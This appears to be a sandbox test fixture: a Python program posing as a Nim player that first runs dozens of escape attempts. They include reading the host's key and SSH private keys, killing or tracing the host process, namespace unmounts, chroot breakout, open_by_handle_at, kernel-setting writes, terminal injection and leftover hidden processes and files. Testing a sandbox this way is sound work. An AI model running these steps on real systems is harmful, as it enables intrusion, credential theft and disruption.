"""A program for Nim that tries to get out of where it was started, one way after the other, before it plays: each way that it
finds is a line in the file `found` beside it, `WAY name: what came of it`; `TRIED n` says how many it has tried. What there is to be
found stands in `known.json`: nobody should have to guess.
"""
import ctypes
import ctypes.util
import json
import os
import signal
import socket
import stat
import subprocess
import sys

os.chdir(os.path.dirname(os.path.abspath(sys.argv[0])))
with open("known.json") as file:
    KNOWN = json.load(file)
HOST, DATA, KEY, RIVAL, HOME, APP, OUTSIDE, SOCKETS = (KNOWN[key] for key in ("host", "data", "key", "rival", "home", "app", "outside", "sockets"))
libc = ctypes.CDLL(None, use_errno=True)
ways = {}


def way(function):
    ways[function.__name__.replace("_", " ")] = function
    return function


def read(path):
    with open(path, "rb") as file:
        return file.read(100)


def listed(folder):
    try:
        return os.listdir(folder)
    except OSError:
        return []


def append(path):
    with open(path, "ab") as file:
        file.write(b"x")
    return path


def tell(line):
    with open("found", "a") as file:
        file.write(line + "\n")


def run(*words):
    """Whether that ends well, and what it says."""
    done = subprocess.run(words, stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, timeout=5)
    return done.stdout.strip() if done.returncode == 0 else None


def in_namespace(script):
    """The same of a script that is root in namespaces of its own; as itself where it may not be."""
    return run("unshare", "--user", "--map-root-user", "--mount", "sh", "-c", script) or run("unshare", "--user", "--mount", "sh", "-c", script)


@way
def reads_the_data_folder():
    return os.listdir(DATA)


@way
def reads_the_archive():
    return read(DATA + "/games.db")


@way
def writes_to_the_data_folder():
    return append(DATA + "/way")


@way
def reads_the_key():
    return read(KEY)


@way
def gives_orders_to_a_contest():
    """By the port and the key that stand in a file of the data folder."""
    return [read(os.path.join(DATA, name)) for name in os.listdir(DATA) if name.endswith(".door")]


@way
def reads_what_lies_beside_its_folder():
    """By paths that do not name it; of the folder for temporary files it is what hosts have there."""
    beside = [os.path.relpath(path) for path in (DATA, RIVAL)] + ["../tmp/" + name for name in os.listdir("../tmp")]
    return [path for path in beside if listed(path)] or read(os.path.relpath(KEY))


@way
def replaces_the_key():
    with open("other-key", "w") as file:
        file.write("mine")
    os.replace("other-key", KEY)
    return True


@way
def reads_the_key_by_a_link():
    os.symlink(KEY, "link")
    return read("link")


@way
def reads_the_data_by_a_link():
    os.symlink(DATA, "data")
    return os.listdir("data")


@way
def links_the_archive_to_its_own_folder():
    os.link(DATA + "/games.db", "games.db")
    return read("games.db")


@way
def moves_the_data_folder():
    os.rename(DATA, DATA + "-gone")
    return True


@way
def reads_the_folder_of_its_rival():
    return read(RIVAL + "/victim.py")


@way
def writes_to_the_folder_of_its_rival():
    return append(RIVAL + "/victim.py")


@way
def writes_to_the_home_folder():
    return append(HOME + "/.profile")


@way
def reads_keys_in_the_home_folder():
    return read(HOME + "/.ssh/id_ed25519")


@way
def writes_to_the_app():
    return append(APP)


@way
def writes_anywhere_else():
    for path in ("/etc/way", "/usr/way", "/var/tmp/way", "/opt/way", "/run/way", "/dev/way", "/dev/.hidden/folder/way", OUTSIDE + "/way"):
        try:
            return append(path)
        except OSError:
            pass


@way
def sees_temporary_files_of_others():
    return [name for name in os.listdir("/tmp") if name.startswith(("fulcrum-attack", "fulcrum-programs"))] and os.listdir(OUTSIDE)


@way
def sees_shared_memory_of_others():
    return os.listdir("/dev/shm")


@way
def stops_the_host():
    os.kill(HOST, signal.SIGSTOP)
    return True


@way
def kills_the_host():
    os.kill(HOST, signal.SIGKILL)
    return True


@way
def sees_processes_of_others():
    return [pid for pid in os.listdir("/proc") if pid.isdigit() and b"fulcrum" in open(f"/proc/{pid}/cmdline", "rb").read() and pid not in ("1", str(os.getpid()))]


@way
def traces_the_host():
    return libc.ptrace(16, HOST, 0, 0) == 0


@way
def reads_the_memory_of_the_host():
    return read(f"/proc/{HOST}/maps")


@way
def reads_the_environment_of_the_host():
    return read(f"/proc/{HOST}/environ")


@way
def goes_by_the_root_of_the_host():
    return os.listdir(f"/proc/{HOST}/root{DATA}")


@way
def goes_by_the_root_of_the_first_process():
    return os.listdir(f"/proc/1/root{DATA}")


@way
def takes_a_file_of_the_first_process():
    links = [os.readlink(f"/proc/1/fd/{name}") for name in os.listdir("/proc/1/fd") if int(name) > 2]
    return [link for link in links if link != "/dev/null"]


@way
def has_files_that_others_opened():
    links = [os.readlink(f"/proc/self/fd/{name}") for name in os.listdir("/proc/self/fd") if int(name) > 2 and os.path.exists(f"/proc/self/fd/{name}")]
    return [link for link in links if link != "/dev/null"]


@way
def enters_the_namespaces_of_the_host():
    return run("nsenter", "--target", str(HOST), "--mount", "cat", KEY) or run("nsenter", "--target", str(HOST), "--all", "cat", KEY)


@way
def takes_walls_down():
    return [path for path in (DATA, "/tmp", "/dev", "/run", "/proc", os.getcwd()) if run("umount", path) is not None]


@way
def makes_the_root_writable():
    return run("mount", "-o", "remount,bind,rw", "/") is not None and append("/way")


@way
def takes_walls_down_in_a_namespace():
    return in_namespace(f"umount {DATA} && cat {KEY}; umount -l /tmp && ls {OUTSIDE}; umount -R / && cat {KEY}")


@way
def looks_behind_walls_in_a_namespace():
    return in_namespace(f"mount --bind / /mnt && cat /mnt{KEY}") or in_namespace(f"mount -t tmpfs x /mnt && mkdir /mnt/x && mount --bind / /mnt/x && cat /mnt/x{KEY}")


@way
def makes_the_root_writable_in_a_namespace():
    return in_namespace("mount -o remount,bind,rw / && echo >/way && echo done")


@way
def mounts_the_processes_of_the_host():
    return in_namespace(f"mount -t proc x /mnt && cat /mnt/{HOST}/environ")


@way
def leaves_its_root():
    return in_namespace(f"cd /tmp; mkdir -p jail; chroot jail /bin/true; cat ../../../../..{KEY}")


@way
def sets_what_dumps_cores():
    with open("/proc/sys/kernel/core_pattern", "w") as file:
        file.write("core")
    return True


@way
def presses_keys_of_the_kernel():
    with open("/proc/sysrq-trigger", "w") as file:
        file.write("h")
    return True


@way
def writes_to_the_system_by_its_settings():
    for path in ("/sys/kernel/uevent_helper", "/sys/power/state", "/sys/kernel/mm/ksm/run", "/proc/sys/vm/drop_caches", "/proc/sys/kernel/hostname"):
        try:
            with open(path, "r+b"):
                return path
        except OSError:
            pass


@way
def moves_to_another_control_group():
    for folder, _, files in os.walk("/sys/fs/cgroup"):
        if "cgroup.procs" in files and os.access(folder + "/cgroup.procs", os.W_OK):
            return folder


@way
def reads_a_disk():
    found = [name for name in os.listdir("/dev") if stat.S_ISBLK(os.stat("/dev/" + name).st_mode)]
    return [name for name in found if read("/dev/" + name)]


@way
def makes_a_device():
    os.mknod("disk", stat.S_IFBLK | 0o600, os.makedev(KNOWN["disk"][0], KNOWN["disk"][1]))
    return read("disk")


@way
def opens_a_file_by_its_handle():
    """As somebody did to leave containers: the handle of a file system's root needs no path."""
    handle = ctypes.create_string_buffer(8 + 128)
    ctypes.cast(handle, ctypes.POINTER(ctypes.c_uint))[0] = 128
    mount_id = ctypes.c_int()
    if libc.name_to_handle_at(-100, b"/usr", handle, ctypes.byref(mount_id), 0) != 0:
        return None
    root = os.open("/", os.O_RDONLY)
    return libc.open_by_handle_at(root, handle, os.O_RDONLY) >= 0


@way
def writes_to_a_terminal_of_others():
    return [name for name in os.listdir("/dev/pts") if name != "ptmx"]


@way
def types_into_a_terminal():
    terminal = os.open("/dev/tty", os.O_RDWR)
    import fcntl
    fcntl.ioctl(terminal, 0x5412, b"x")
    return True


@way
def finds_messages_of_others():
    return libc.shmget(KNOWN["segment"], 0, 0) >= 0


@way
def watches_files_of_others():
    watcher = libc.inotify_init()
    return [path for path in (DATA + "/games.db", KEY, RIVAL + "/victim.py") if libc.inotify_add_watch(watcher, path.encode(), 2) >= 0 and os.path.getsize(path) > 0]


@way
def speaks_to_other_programs_by_their_sockets():
    for path in SOCKETS:
        with socket.socket(socket.AF_UNIX) as one:
            try:
                one.connect(path)
                return path
            except OSError:
                pass


@way
def finds_passwords_in_its_environment():
    return [name for name in os.environ if name in ("ATTACK_TOKEN", "DBUS_SESSION_BUS_ADDRESS", "SSH_AUTH_SOCK")]


@way
def gains_rights():
    with open("/proc/self/status") as status:
        rights = {line.split()[0]: line.split()[1] for line in status if line.startswith("Cap")}
    allowed = 1 << 1 | 1 << 6 | 1 << 7  # a host that is root leaves it files of others, and whose it is
    return rights if int(rights["CapEff:"], 16) & ~allowed else None


for name, find in ways.items():
    try:
        found = find()
    except Exception:
        found = None
    if found:
        tell(f"WAY {name}: {str(found)[:200]}")
tell(f"TRIED {len(ways)}")

# What it leaves, to outlive its game: processes that hide, and files that don't go.
subprocess.Popen(["sh", "-c", f"setsid env -i sleep {KNOWN['seconds']} &"])
leaves = os.environ["TMPDIR"] + "/leaves"
os.makedirs(leaves + "/inside")
open(os.fsencode(leaves) + b"/\xff\n", "w").close()
os.chmod(leaves, 0)
here = os.getcwd()
os.chdir(os.environ["TMPDIR"])
for _ in range(2100):
    os.mkdir("d")
    os.chdir("d")
os.chdir(here)

for line in sys.stdin:
    if line.startswith("game:"):
        game = json.loads(line[5:])
        if game["status"] == "running" and game["currentPlayer"] == 1:
            row = next(index for index, pile in enumerate(game["board"]) if pile[0] > 0)
            print(f"click:{row}_{game['board'][row][0] - 1}", flush=True)
